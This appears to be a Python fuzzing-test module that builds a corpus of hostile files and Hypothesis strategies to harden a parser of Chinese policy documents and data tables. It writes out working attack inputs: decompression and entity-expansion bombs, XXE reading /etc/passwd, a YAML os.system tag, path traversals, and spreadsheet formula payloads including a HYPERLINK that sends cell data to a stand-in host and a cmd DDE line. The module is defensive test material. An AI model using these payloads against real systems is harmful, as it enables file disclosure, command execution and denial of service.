"""The hostile corpus of issue 17 and the hypothesis strategies of the fuzzing campaign.

Nothing here is committed as a large file: :func:`build_corpus` writes the shapes of the
findings (bombs that unpack or parse into gigabytes, non-regular files, path escapes,
formula and markup cells, numbers at the edges) into a scratch folder at a chosen
``scale`` (1.0 = the sizes of the findings; the quick subset in ``make test`` uses less).
The strategies generate small files of every kind a command reads — tables with hostile
cells, YAML trees mutated from the shipped examples, documents mixing target sentences
with escape sequences, gold files, and byte-level damage of valid seeds.
"""

from __future__ import annotations

import csv
import io
import json
import os
import zipfile
from pathlib import Path

# ----------------------------------------------------------------------------- tokens

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"点此")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
            "=cmd|' /C calc'!A0", "＝1+1"]
MARKUP = ["[/x]", "[bold]粗[/bold]", "[link=http://evil.example]点[/link]", "[/]", "[red"]
CONTROL = ["\x1b[31m红\x1b[0m", "\x1b]0;title\x07", "\x00", "\x07\x08", "\u202e反转", "a\u200bb", "\ufeff", "\r\n\r"]
NUMBERS = ["1e308", "-1e308", "1e309", "nan", "NaN", "inf", "-inf", "9" * 400, "-0", "0x1F", "１２３", "1,234.5",
           "12%", "百分之十", "三千", "1e-320", "2.5.1", "9999-12-31", "0001-01-01", "2024-02-30", ""]
UNITS = ["万家", "亿元", "%", "家", "个", "万元", "‰", "人/万人", "倍"]
PATHS = ["../../../../etc/passwd", "/etc/hostname", "../../secret.yaml", "..\\..\\x.yaml", "/dev/zero", "~/x.json",
         "file:///etc/passwd", "con", "a/../../b.yaml"]
SENTENCES = ["到2025年，全市高新技术企业达到500家。", "研发经费投入强度达到2.5%，较2020年提高0.8个百分点。",
             "技术合同成交额较“十三五”末实现倍增。", "全年新增科技型中小企业增长10%。", "一、主要目标", "（一）培育创新主体",
             "牵头单位：市科技局；责任单位：市财政局。", "2023年6月底前完成。"]
HOSTILE_TOKENS = FORMULAS + MARKUP + CONTROL + NUMBERS + PATHS


# ----------------------------------------------------------------------------- builders


def docx(chunks, numbering: bytes | None = None) -> bytes:
    """A minimal .docx whose word/document.xml is streamed from ``chunks``."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        z.writestr("[Content_Types].xml",
                   '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                   '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                   '<Default Extension="xml" ContentType="application/xml"/>'
                   '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
                   'officedocument.wordprocessingml.document.main+xml"/></Types>')
        z.writestr("_rels/.rels",
                   '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                   'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
                   '2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')
        if numbering:
            z.writestr("word/_rels/document.xml.rels",
                       '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                       'relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
                       'officeDocument/2006/relationships/numbering" Target="numbering.xml"/></Relationships>')
            z.writestr("word/numbering.xml", numbering)
        with z.open("word/document.xml", "w", force_zip64=True) as f:
            for chunk in chunks:
                f.write(chunk)
    return buf.getvalue()


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
DOC_HEAD = f'<?xml version="1.0"?><w:document {W}><w:body>'.encode()
DOC_TAIL = b"</w:body></w:document>"


def docx_paragraphs(texts: list[str]) -> bytes:
    from xml.sax.saxutils import escape

    body = "".join(f"<w:p><w:r><w:t xml:space=\"preserve\">{escape(_xml_safe(t))}</w:t></w:r></w:p>" for t in texts)
    return docx([DOC_HEAD, body.encode(), DOC_TAIL])


def _xml_safe(s: str) -> str:
    return "".join(ch for ch in s if ch in "\t\n\r" or (ord(ch) >= 0x20 and not 0xD800 <= ord(ch) <= 0xDFFF
                                                          and ch not in "\ufffe\uffff"))


def pdf(objs: list[bytes], trailer: str = "") -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for i, o in enumerate(objs, 1):
        offsets.append(out.tell())
        out.write(f"{i} 0 obj\n".encode() + o + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode())
    for o in offsets:
        out.write(f"{o:010d} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R {trailer} >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


PDF_PAGE = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            b"<< /Length 36 >>\nstream\nBT /F1 12 Tf 72 720 Td (Hello) Tj ET\nendstream"]
PDF_ID = "/ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]"


def xlsx(rows: list[list]) -> bytes:
    """An XLSX of ``rows`` as openpyxl writes it — a text starting with ``=`` becomes a live formula,
    which is exactly what a hostile registry sends."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    for r in rows:
        ws.append([_xlsx_value(v) for v in r])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _xlsx_value(v):
    if isinstance(v, str):
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        return ILLEGAL_CHARACTERS_RE.sub("", v)[:32_767]
    return v


def rewrite_zip(data: bytes, member: str, edit) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename == member:
                with z.open(info.filename, "w", force_zip64=True) as f:
                    for chunk in edit(body):
                        f.write(chunk)
            else:
                z.writestr(info.filename, body)
    return out.getvalue()


def csv_bytes(rows: list[list], encoding: str = "utf-8-sig") -> bytes:
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    return buf.getvalue().encode(encoding, errors="replace")


# ----------------------------------------------------------------------------- the corpus


def build_corpus(folder: Path, *, scale: float = 1.0) -> list[Path]:
    """Write the hostile files of issue 17 into ``folder``; ``scale`` 1.0 = the sizes of the findings.

    Returns the paths (some are symlinks, a FIFO, a folder or missing on purpose).
    """
    folder.mkdir(parents=True, exist_ok=True)
    made: list[Path] = []
    stamp = folder / ".built"
    if stamp.exists() and stamp.read_text() == repr(scale):  # a kept scratch folder: built already
        return [Path(p) for p in json.loads((folder / ".paths").read_text())]

    def put(name: str, data: bytes) -> None:
        p = folder / name
        p.write_bytes(data)
        made.append(p)

    def n(x: float) -> int:
        return max(1, int(x * scale))

    # --- documents (finding 2, 5)
    mb = 1024 * 1024
    spaces = b" " * mb
    put("whitespace-bomb.docx", docx([DOC_HEAD, b"<w:p><w:r><w:t>", *([spaces] * n(1500)), b"</w:t></w:r></w:p>",
                                      DOC_TAIL]))
    put("paragraph-bomb.docx", docx([DOC_HEAD, *([b"<w:p/>" * 10_000] * n(100)), DOC_TAIL]))
    put("bad-ilvl.docx", docx([DOC_HEAD, b'<w:p><w:pPr><w:numPr><w:ilvl w:val="abc"/><w:numId w:val="1"/></w:numPr>'
                                         b"</w:pPr><w:r><w:t>" + SENTENCES[0].encode() + b"</w:t></w:r></w:p>", DOC_TAIL],
                              numbering=(f'<?xml version="1.0"?><w:numbering {W}><w:abstractNum w:abstractNumId="0">'
                                         '<w:lvl w:ilvl="zero"><w:start w:val="x"/><w:numFmt w:val="chineseCounting"/>'
                                         '<w:lvlText w:val="%1、"/></w:lvl></w:abstractNum><w:num w:numId="1">'
                                         '<w:abstractNumId w:val="0"/></w:num></w:numbering>').encode()))
    put("xxe.docx", docx([b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
                          + DOC_HEAD[len(b'<?xml version="1.0"?>'):] + b"<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>"
                          + DOC_TAIL]))
    laughs = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + b"".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">'.encode() for i in range(9)) + b"]>"
    put("laughs.docx", docx([b'<?xml version="1.0"?>' + laughs + DOC_HEAD[len(b'<?xml version="1.0"?>'):]
                             + b"<w:p><w:r><w:t>&j;</w:t></w:r></w:p>" + DOC_TAIL]))
    put("not-a-zip.docx", b"PK\x03\x04" + os.urandom(2000))
    put("aes256.pdf", pdf([*PDF_PAGE, b"<< /Filter /Standard /V 5 /R 6 /Length 256 /O <" + b"00" * 48 + b"> /U <"
                           + b"00" * 48 + b"> /OE <" + b"00" * 32 + b"> /UE <" + b"00" * 32 + b"> /Perms <" + b"00" * 16
                           + b"> /P -4 /CF << /StdCF << /CFM /AESV3 /AuthEvent /DocOpen /Length 32 >> >> /StmF /StdCF "
                           b"/StrF /StdCF >>"], "/Encrypt 5 0 R " + PDF_ID))
    put("unknown-security.pdf", pdf([*PDF_PAGE, b"<< /Filter /FooSecurity /V 9 /R 9 >>"], "/Encrypt 5 0 R " + PDF_ID))
    put("flate-bomb.pdf", _pdf_flate_bomb(n(200) * mb))
    put("broken.pdf", b"%PDF-1.4\n" + os.urandom(3000))
    put("growth.txt", ("增长10%，" * n(300_000)).encode())  # 1.8 MB at scale 1: the quadratic finding
    put("lines.txt", b"a\n" * n(10_000_000))
    put("big.txt", (("".join(SENTENCES) * 20 + "\n") * n(6_000)).encode())  # ~50 MB at scale 1: the stated bound
    put("escapes.txt", ("\n".join(SENTENCES + CONTROL + MARKUP) + "\n").encode())
    put("gbk.txt", "\n".join(SENTENCES).encode("gbk"))
    put("utf16.txt", "\n".join(SENTENCES).encode("utf-16"))
    put("binary.txt", os.urandom(5000))
    put("page.html", ("<html><head><script>alert(1)</script></head><body>" + "<div>" * n(5000)
                      + "".join(f"<p>{s}</p>" for s in SENTENCES) + "</div>" * n(5000) + "</body></html>").encode())
    put("empty.txt", b"")

    # --- tables (finding 1, 2, 5, 6)
    header = ["地区", "指标", "年份", "值", "单位", "来源"]
    hostile_rows = [[f, "高新技术企业数", 2024, v, u, m] for f, v, u, m in
                    zip(FORMULAS, ["1e308", "nan", "inf", "9" * 400, "-1e308", "1e309", "12%", "百分之十"],
                        UNITS * 2, MARKUP + CONTROL[:3], strict=False)]
    put("formulas.csv", csv_bytes([header, *hostile_rows]))
    put("formulas.xlsx", xlsx([header, *hostile_rows]))
    put("markup-headers.csv", csv_bytes([["地区", "[/x]", "[bold]y", "\x1b[31m列", "=A1"], ["甲区", 1, 2, 3, 4]]))
    put("huge-number-unit.csv", csv_bytes([header, ["乐山市", "高新技术企业数", 2024, "1e308", "万家", "测试"],
                                           ["乐山市", "高新技术企业数", 2023, "-1e308", "万家", "测试"]]))
    put("long-cell.csv", csv_bytes([header, ["乐山市", "长" * n(10 * mb), 2024, 1, "家", "x"]]))
    put("many-columns.csv", csv_bytes([[f"c{i}" for i in range(n(100_000))], [1] * 3]))
    put("nul.csv", b"\xef\xbb\xbf" + "地区,值\n乐山\x00市,1\n".encode())
    base = xlsx([header, ["乐山市", "高新技术企业数", 2024, 1, "家", "x"]])
    put("xlsx-bomb.xlsx", rewrite_zip(base, "xl/worksheets/sheet1.xml",
                                      lambda b: [b, *([spaces] * n(1500))]))
    put("xlsx-20m-rows.xlsx", rewrite_zip(base, "xl/worksheets/sheet1.xml",
                                          lambda b: [b.replace(b'<dimension ref="A1:F2"/>',
                                                               b'<dimension ref="A1:F20000000"/>')]))
    put("xlsx-far-row.xlsx", rewrite_zip(base, "xl/worksheets/sheet1.xml", lambda b: [b.replace(
        b"</sheetData>", b'<row r="20000000"><c r="A20000000" t="inlineStr"><is><t>x</t></is></c></row></sheetData>')]))
    put("xlsx-xxe.xlsx", rewrite_zip(base, "xl/worksheets/sheet1.xml", lambda b: [
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + b.split(b"?>", 1)[-1]]))
    put("xlsx-laughs.xlsx", rewrite_zip(base, "xl/sharedStrings.xml", lambda b: [
        b'<?xml version="1.0"?>' + laughs + b.split(b"?>", 1)[-1]]) if "xl/sharedStrings.xml" in
        zipfile.ZipFile(io.BytesIO(base)).namelist() else rewrite_zip(base, "xl/worksheets/sheet1.xml", lambda b: [
            b'<?xml version="1.0"?>' + laughs + b.split(b"?>", 1)[-1]]))
    put("xls-ole.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    put("pdf-as.csv", b"%PDF-1.4\n" + b"x" * 100)

    # --- YAML and JSON (finding 2, 3, 5, 6)
    alias = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [" + ", ".join([f"*{chr(97 + i)}"] * 10) + "]\n" for i in range(8))
    put("alias-bomb.yaml", alias.encode())
    put("long-int.yaml", ("id: x\nname: x\nversion: " + "9" * 400 + "\n").encode())
    put("deep.yaml", ("a: " + "[" * 5000 + "]" * 5000 + "\n").encode())
    put("python-tag.yaml", b"x: !!python/object/apply:os.system ['true']\n")
    for i, target in enumerate(PATHS[:4]):
        put(f"extends-escape-{i}.yaml", f"extends: {json.dumps(target)}\nid: x\nname: x\nversion: '1'\n".encode())
    put("nan-threshold.yaml", b"extends: default\nname: x\nversion: 1\nlights: {green: .nan, yellow: .inf}\n"
                              b"thresholds: {on_track: .nan}\n")
    put("yaml-big.yaml", ("k: " + "x" * n(3 * mb) + "\n").encode())
    put("deep.json", ("[" * 100_000 + "]" * 100_000).encode())
    put("gold-escape.json", json.dumps({"schema": 1, "documents": [{"file": p, "targets": []} for p in PATHS]}).encode())
    put("gold-bad.json", json.dumps({"schema": 1, "documents": [{"file": 3, "targets": [None, {"value": "x" * 10}]},
                                                                 {"targets": "x"}, None]}).encode())

    # --- things that are not regular files (finding 2)
    for name, to in (("zero.txt", "/dev/zero"), ("zero.csv", "/dev/zero"), ("zero.yaml", "/dev/zero"),
                     ("urandom.docx", "/dev/urandom"), ("loop.csv", "loop.csv"), ("dangling.yaml", "nowhere.yaml")):
        p = folder / name
        if not p.is_symlink():
            p.symlink_to(to)
        made.append(p)
    fifo = folder / "pipe.csv"
    if not fifo.exists():
        os.mkfifo(fifo)
    made.append(fifo)
    fifo2 = folder / "pipe.docx"
    if not fifo2.exists():
        os.mkfifo(fifo2)
    made.append(fifo2)
    d = folder / "folder.yaml"
    d.mkdir(exist_ok=True)
    made.append(d)
    made.append(folder / "missing.csv")
    (folder / ".paths").write_text(json.dumps([str(p) for p in made]))
    stamp.write_text(repr(scale))
    return made


def _pdf_flate_bomb(size: int) -> bytes:
    import zlib

    comp = zlib.compressobj(9)
    chunk = b"BT (A) Tj ET\n" * 80_000
    parts = [comp.compress(chunk) for _ in range(max(1, size // len(chunk)))]
    body = b"".join(parts) + comp.flush()
    return pdf([PDF_PAGE[0], PDF_PAGE[1], PDF_PAGE[2],
                f"<< /Length {len(body)} /Filter /FlateDecode >>\nstream\n".encode() + body + b"\nendstream"])


# ----------------------------------------------------------------------------- strategies


def strategies():
    """Hypothesis strategies by file kind (imported lazily: hypothesis is a development dependency)."""
    from hypothesis import strategies as st

    token = st.sampled_from(HOSTILE_TOKENS)
    plain = st.text(alphabet=st.sampled_from(list("市科技局高新企业研发经费投入强度增长达到家亿元万个年月日%，。；、（）一二三")
                                             + list("0123456789.-=+@[]/\\\"'\t\n ")), max_size=40)
    text = st.one_of(token, plain, st.text(max_size=30), st.builds(lambda a, b: a + b, token, plain))
    number = st.one_of(st.integers(-10**6, 10**6), st.floats(allow_nan=True, allow_infinity=True),
                       st.sampled_from(NUMBERS))
    cell = st.one_of(text, number, st.none(), st.booleans())

    def table(headers: list[str]):
        @st.composite
        def build(draw):
            hs = list(headers)
            if draw(st.booleans()):
                hs = draw(st.permutations(hs))
            if draw(st.integers(0, 3)) == 0:
                hs = hs[: draw(st.integers(0, len(hs)))]
            if draw(st.integers(0, 3)) == 0:
                hs.append(draw(text))
            rows = draw(st.lists(st.lists(cell, min_size=0, max_size=len(hs) + 2), max_size=6))
            title = [[draw(text)]] if draw(st.integers(0, 5)) == 0 else []
            allr = [*title, hs, *rows]
            fmt = draw(st.sampled_from(["csv", "csv", "xlsx", "gbk", "utf16", "tsv"]))
            if fmt == "xlsx":
                return ".xlsx", xlsx([[_cellify(v) for v in r] for r in allr])
            rows_s = [["" if v is None else str(v) for v in r] for r in allr]
            if fmt == "gbk":
                return ".csv", csv_bytes(rows_s, "gbk")
            if fmt == "utf16":
                return ".csv", csv_bytes(rows_s, "utf-16")
            if fmt == "tsv":
                return ".csv", "\n".join("\t".join(r) for r in rows_s).encode("utf-8", "replace")
            return ".csv", csv_bytes(rows_s)
        return build()

    def yaml_tree(seed: object):
        import yaml

        leaf = st.one_of(text, number, st.none(), st.booleans(), st.sampled_from(PATHS))

        @st.composite
        def build(draw):
            tree = _mutate(draw, seed, leaf, st, depth=0)
            if draw(st.integers(0, 6)) == 0 and isinstance(tree, dict):
                tree["extends"] = draw(st.sampled_from(PATHS + ["default", "casted_index", "nowhere"]))
            raw = yaml.safe_dump(tree, allow_unicode=True, sort_keys=False)
            if draw(st.integers(0, 5)) == 0:
                raw = _damage_text(draw, raw, st)
            return ".yaml", raw.encode("utf-8", "replace")
        return build()

    def document():
        @st.composite
        def build(draw):
            paras = draw(st.lists(st.one_of(st.sampled_from(SENTENCES), text,
                                            st.builds(lambda a, b: a + b, st.sampled_from(SENTENCES), token)),
                                  max_size=15))
            fmt = draw(st.sampled_from(["txt", "txt", "docx", "html", "gbk", "pdf"]))
            if fmt == "docx":
                return ".docx", docx_paragraphs(paras)
            if fmt == "html":
                return ".html", ("<html><body>" + "".join(f"<p>{p}</p>" for p in paras) + "</body></html>").encode(
                    "utf-8", "replace")
            if fmt == "gbk":
                return ".txt", "\n".join(paras).encode("gbk", "replace")
            if fmt == "pdf":
                return ".pdf", _damage_bytes(draw, pdf(PDF_PAGE), st)
            return ".txt", "\n".join(paras).encode("utf-8", "surrogatepass")
        return build()

    def gold(seed: dict):
        @st.composite
        def build(draw):
            tree = _mutate(draw, seed, st.one_of(text, number, st.none(), st.sampled_from(PATHS)), st, depth=0)
            raw = json.dumps(tree, ensure_ascii=False, allow_nan=True)
            if draw(st.integers(0, 5)) == 0:
                raw = _damage_text(draw, raw, st)
            return ".json", raw.encode("utf-8", "surrogatepass")
        return build()

    def damaged(seed: bytes, suffix: str):
        @st.composite
        def build(draw):
            return suffix, _damage_bytes(draw, seed, st)
        return build()

    return {"table": table, "yaml": yaml_tree, "document": document, "gold": gold, "damaged": damaged}


def _cellify(v):
    if isinstance(v, float) and (v != v or v in (float("inf"), float("-inf"))):
        return str(v)
    return v


def _mutate(draw, node, leaf, st, depth):
    """A copy of ``node`` with some leaves replaced by hostile ones, keys dropped or added, lists cut."""
    roll = draw(st.integers(0, 11))
    if roll == 0 or depth > 6:
        return draw(leaf)
    if isinstance(node, dict):
        out = {}
        for k, v in node.items():
            r = draw(st.integers(0, 9))
            if r == 0:
                continue  # dropped
            out[k] = _mutate(draw, v, leaf, st, depth + 1) if r > 2 else draw(leaf)
        if roll == 1:
            out[draw(st.sampled_from(HOSTILE_TOKENS + ["unknown_key", "weight", "method", "file"]))] = draw(leaf)
        return out
    if isinstance(node, list):
        items = node[: draw(st.integers(0, len(node)))] if roll == 2 else list(node)
        if items and roll == 3:
            items = items * draw(st.integers(2, 4))
        return [_mutate(draw, v, leaf, st, depth + 1) for v in items[:20]]
    return draw(leaf) if roll < 4 else node


def _damage_text(draw, raw: str, st) -> str:
    kind = draw(st.integers(0, 3))
    pos = draw(st.integers(0, len(raw)))
    if kind == 0:
        return raw[:pos]
    if kind == 1:
        return raw[:pos] + draw(st.sampled_from(HOSTILE_TOKENS + ["&a ", "*a", "{", "[", ":", "\t", "'", '"']))\
            + raw[pos:]
    if kind == 2:
        return raw[:pos] + raw[pos:][::-1]
    return raw.replace("\n", "\r", draw(st.integers(0, 5)))


def _damage_bytes(draw, data: bytes, st) -> bytes:
    b = bytearray(data)
    for _ in range(draw(st.integers(1, 6))):
        if not b:
            break
        kind = draw(st.integers(0, 3))
        pos = draw(st.integers(0, len(b) - 1))
        if kind == 0:
            b[pos] = draw(st.integers(0, 255))
        elif kind == 1:
            del b[pos: pos + draw(st.integers(1, 64))]
        elif kind == 2:
            b[pos:pos] = draw(st.binary(max_size=16))
        else:
            b = b[:pos]
    return bytes(b)
